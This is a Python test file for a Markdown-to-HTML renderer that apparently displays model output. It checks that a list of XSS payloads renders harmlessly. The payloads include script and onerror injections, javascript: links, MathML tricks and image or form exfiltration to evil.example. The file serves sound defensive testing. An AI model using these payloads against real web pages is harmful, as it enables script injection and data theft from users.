"""A model's Markdown as HTML: what it becomes, and that nothing in it can act."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fledge.serve.show.code import highlighted
from fledge.serve.show.latex import MAX_FORMULA, formula
from fledge.serve.show.markdown import render


class Elements(HTMLParser):
    """Gather what a browser would make: the elements with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data: str) -> None:
        self.text += data


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](https://a.b \"onmouseover='alert(1)'\")",
    "![x](https://evil.example/?secret)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```python onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| x | <b onclick=alert(1)>y</b> |",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{background:url(javascript:alert(1))}{x}$$",
    r"\(\text{</math><img src=x onerror=alert(1)>}\)",
    r"\[\text{<mglyph><svg><mtext><style><img src=x onerror=alert(1)>}\]",
    r"$\unicode{<script>}$",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=a()>\">",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><input name=a></form>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "1. <img src=x onerror=alert(1)>",
    "\u202e<script>\u202d",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_something_that_acts(payload: str) -> None:
    assert_harmless(render(payload))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).elements:
        assert tag not in {"script", "img", "svg", "iframe", "style", "form", "input", "base"}
        assert tag not in {"object", "embed", "link", "meta", "details", "mglyph", "button"}
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        if "href" in attributes:
            assert tag == "a"
            assert (attributes["href"] or "").startswith(("https:", "http:", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"


@given(st.text(alphabet=st.sampled_from("<>&\"'`$\\[]()!*_#|-=:/ \nab{}^~"), max_size=60))
def test_any_text_is_harmless(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo\n\nthree", "<p>one<br>\ntwo</p>\n<p>three</p>\n"),
        ("**bold** *it* ~~gone~~", "<p><strong>bold</strong> <em>it</em> <s>gone</s></p>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("costs $5 and $6", "<p>costs $5 and $6</p>\n"),
        (
            "<b>x</b> &amp; [a](https://b.c)",
            '<p>&lt;b&gt;x&lt;/b&gt; &amp; <a href="https://b.c" target="_blank" '
            'rel="noopener noreferrer nofollow">a</a></p>\n',
        ),
    ],
)
def test_text_becomes_these_elements(text: str, html: str) -> None:
    assert render(text) == html


def test_headings_start_below_the_page_s_own_and_skip_no_level() -> None:
    html = render("# One\n\n### Three\n\n## Two\n\nTitle\n===")
    headings = [tag for tag, _ in Elements(html).elements if tag.startswith("h")]
    assert headings == ["h3", "h4", "h4", "h3"]


def test_a_table_keeps_its_alignment_without_inline_style() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


def test_code_is_highlighted_by_class_and_unknown_languages_are_text() -> None:
    assert '<span class="k">return</span>' in render("```python\nreturn 1\n```")
    assert render("```nolang\n<b>\n```") == (
        '<pre tabindex="0"><code data-language="nolang">&lt;b&gt;\n</code></pre>\n'
    )
    assert highlighted("x" * 30_000, "python") == "x" * 30_000


@pytest.mark.parametrize("text", ["$x^2$", r"\(x^2\)", "$$x^2$$", r"\[x^2\]"])
def test_formulas_are_mathml(text: str) -> None:
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in render(text)


@pytest.mark.parametrize(
    "latex", [r"\frac{", "x_", r"\left(", "{" * 1_500, "x" * (MAX_FORMULA + 1)]
)
def test_what_is_no_formula_stays_as_it_was_written(latex: str) -> None:
    assert formula(latex, "inline") == f"<code>{latex}</code>"


@pytest.mark.parametrize(
    "text", [">" * 5_000, "[" * 5_000, "*a " * 3_000, "`" * 5_000, "- " * 3_000, "$" * 4_000]
)
def test_hostile_nesting_is_rendered_in_time(text: str) -> None:
    began = time.thread_time()
    assert_harmless(render(text))
    assert time.thread_time() - began < 5
